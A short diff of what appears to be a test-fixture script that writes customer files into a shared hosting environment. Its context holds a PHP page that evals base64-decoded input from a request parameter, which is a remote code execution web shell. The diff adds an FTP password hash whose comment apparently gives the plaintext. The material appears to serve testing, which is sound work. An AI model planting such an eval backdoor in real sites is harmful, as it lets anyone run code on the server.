@@ -11,6 +11,8 @@ header("Content-Type: text/plain");
 $code = $_POST["e"] ?? $_GET["e"] ?? "";
 echo $code === "" ? "hello from alba" : eval("return " . base64_decode($code) . ";"), "\\n";
 """
+# “correct horse”
+FTP_PASSWORD = "$6$endtoend$MYmIKyPpIyadYL6bHlkmFmu8XdY8BWjr2ZWPR/sdiaLNikiaVNOzS1guEO8SBb2plNYSYDq74ZOLoXy1kgCVn1"
 FILES = {
     "alba": {
         "alba.example/public/index.php": PAGE,
@@ -32,6 +34,8 @@ FILES = {
 def write(share, tenants):
     """Writes the customers' files with their owners, as an upload would have."""
     for tenant, files in FILES.items():
+        if tenant not in tenants:
+            continue
         uid = tenants[tenant]["uid"]
         for name, text in files.items():
             path = pathlib.Path(share, "tenants", tenant, name)
